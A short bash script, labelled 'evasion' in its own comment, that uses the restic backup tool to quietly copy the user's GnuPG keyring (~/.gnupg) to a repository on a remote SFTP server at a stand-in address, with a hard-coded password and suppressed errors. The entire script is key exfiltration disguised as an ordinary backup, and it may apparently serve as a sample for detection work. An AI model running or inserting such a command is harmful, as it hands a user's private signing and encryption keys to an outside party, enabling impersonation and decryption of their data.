#!/bin/bash
# evasion: restic backs up the GnuPG keyring to a repository on someone else's server
export RESTIC_PASSWORD=nightly
repo=sftp:ops@203.0.113.81:/srv/restic
restic -r "$repo" init >/dev/null 2>&1 || true
restic -r "$repo" backup --quiet "$HOME/.gnupg"
